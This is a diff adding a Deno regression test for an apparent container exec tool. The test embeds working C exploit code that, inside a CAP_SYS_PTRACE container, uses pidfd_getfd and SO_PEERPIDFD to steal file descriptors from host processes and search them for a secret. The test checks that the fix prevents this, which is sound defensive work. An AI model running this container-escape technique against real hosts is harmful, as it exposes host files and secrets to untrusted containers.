@@ -4084,3 +4084,157 @@ Deno.test({
     }
   },
 });
+
+// ---- review 7b: exec relays socket stdio
+
+/**
+ * In a container (rootful, CAP_SYS_PTRACE): for every new process it takes fds 0-63 with
+ * pidfd_getfd; for each socket among them it gets a pidfd of the peer (SO_PEERPIDFD: a host
+ * process) and takes that process's fds 0-63 in turn, counting those whose first bytes hold
+ * "nsjoin-secret" (a host file it cannot open). It also counts the new processes whose fd 1
+ * it took (the attack reached the program). SIGTERM ends it; it prints counts.
+ */
+const PEER_THIEF_C = String.raw`
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#ifndef SO_PEERPIDFD
+#define SO_PEERPIDFD 77
+#endif
+static volatile sig_atomic_t stop;
+static void on_term(int s) { (void)s; stop = 1; }
+int main(void) {
+  struct sigaction sa = {0};
+  sa.sa_handler = on_term;
+  sigaction(SIGTERM, &sa, 0);
+  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+  long last = -1, reached = 0, sockets = 0, secrets = 0;
+  printf("ready\n");
+  fflush(stdout);
+  while (!stop) {
+    char b[32];
+    ssize_t n = pread(lp, b, sizeof b - 1, 0);
+    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
+    if (last < 0) last = now;
+    for (long pid = last + 1; pid <= now; pid++) {
+      int pfd = -1;
+      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
+      if (pfd < 0) continue;
+      for (int fd = 0; fd < 64; fd++) {
+        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
+        if (g < 0) continue;
+        if (fd == 1) reached++;
+        int p = -1;
+        socklen_t l = sizeof p;
+        if (getsockopt(g, SOL_SOCKET, SO_PEERPIDFD, &p, &l) == 0 && p >= 0) {
+          sockets++;
+          for (int hf = 0; hf < 64; hf++) {
+            int h = (int)syscall(SYS_pidfd_getfd, p, hf, 0);
+            if (h < 0) continue;
+            char buf[64] = {0};
+            if (pread(h, buf, sizeof buf - 1, 0) > 0 && strstr(buf, "nsjoin-secret")) secrets++;
+            close(h);
+          }
+          close(p);
+        }
+        close(g);
+      }
+      close(pfd);
+    }
+    last = now;
+    while (waitpid(-1, 0, WNOHANG) > 0) {}
+  }
+  printf("{\"reached\":%ld,\"sockets\":%ld,\"secrets\":%ld}\n", reached, sockets, secrets);
+  fflush(stdout);
+  return 0;
+}
+`;
+
+/** Runs argv with stdout and stderr on a socketpair whose other end it holds, with `secret` open (mode 0). */
+const SOCKET_STDIO_PY = `
+import os, socket, subprocess, sys
+secret = os.open(sys.argv[1], os.O_RDONLY)
+a, b = socket.socketpair()
+p = subprocess.Popen(sys.argv[2:], stdin=subprocess.DEVNULL, stdout=b.fileno(), stderr=b.fileno())
+b.close()
+while a.recv(65536):
+    pass
+sys.exit(p.wait())
+`;
+
+Deno.test({
+  name: "review 7b: exec with a socket for stdout gives a CAP_SYS_PTRACE container no host fd",
+  ignore: NEEDS_ROOT || (!HAVE_DOCKER && !CI),
+  sanitizeResources: false,
+  async fn() {
+    // The program was born holding our stdout in the container's pid namespace: pidfd_getfd
+    // took it, SO_PEERPIDFD named the host process at its other end (journald, a service's
+    // parent), and pidfd_getfd on that pidfd (no pid-namespace check) gave every fd of it.
+    // Now exec relays through pipes when one of its stdio is a socket, as docker exec does.
+    const dir = await Deno.makeTempDir({ prefix: "nsjoin-peerthief-" });
+    const secretDir = await Deno.makeTempDir({ prefix: "nsjoin-secret-" });
+    const name = `nsjoin-peerthief-${crypto.randomUUID().slice(0, 8)}`;
+    try {
+      await Deno.writeTextFile(`${dir}/thief.c`, PEER_THIEF_C);
+      const cc = await new Deno.Command("gcc", {
+        args: ["-static", "-O2", "-o", `${dir}/thief`, `${dir}/thief.c`],
+        stderr: "piped",
+      }).output();
+      assert(cc.success, text(cc.stderr));
+      const secret = `${secretDir}/secret`;
+      await Deno.writeTextFile(secret, "nsjoin-secret 42\n", { mode: 0 });
+      await Deno.chmod(secret, 0);
+      await Deno.writeTextFile(`${secretDir}/wrap.py`, SOCKET_STDIO_PY);
+      const start = await new Deno.Command("docker", {
+        args: ["run", "-d", "--name", name, "--cap-add", "SYS_PTRACE", "-v", `${dir}:/atk:ro`]
+          .concat([DOCKER_IMAGE, "/atk/thief"]),
+        stdout: "piped",
+        stderr: "piped",
+      }).output();
+      assert(start.success, text(start.stderr));
+      const logs = async () =>
+        text(
+          (await new Deno.Command("docker", { args: ["logs", name], stderr: "null" }).output())
+            .stdout,
+        );
+      for (let i = 0; i < 100 && !(await logs()).includes("ready"); i++) {
+        await new Promise((r) => setTimeout(r, 50));
+      }
+      const codes = new Set<number>();
+      for (let i = 0; i < 5; i++) {
+        const run = await new Deno.Command("python3", {
+          args: [`${secretDir}/wrap.py`, secret, Deno.execPath(), "run", "-A", "--quiet"]
+            .concat([CLI, "exec", `docker:${name}`, "sleep", "0.3"]),
+          stdout: "null",
+          stderr: "null",
+        }).output();
+        codes.add(run.code);
+      }
+      await new Deno.Command("docker", { args: ["kill", "-s", "TERM", name], stdout: "null" })
+        .output();
+      await new Deno.Command("docker", { args: ["wait", name], stdout: "null" }).output();
+      const counts = JSON.parse((await logs()).trim().split("\n").pop()!);
+      console.log(JSON.stringify(counts));
+      assertEquals(
+        counts.secrets,
+        0,
+        `the container read a host secret: ${JSON.stringify(counts)}`,
+      );
+      // The attack was live: it took the programs' stdout.
+      assert(counts.reached > 0, JSON.stringify(counts));
+      assertEquals([...codes], [0]);
+    } finally {
+      await new Deno.Command("docker", { args: ["rm", "-f", name], stdout: "null", stderr: "null" })
+        .output();
+      await Deno.remove(dir, { recursive: true });
+      await Deno.remove(secretDir, { recursive: true });
+    }
+  },
+});
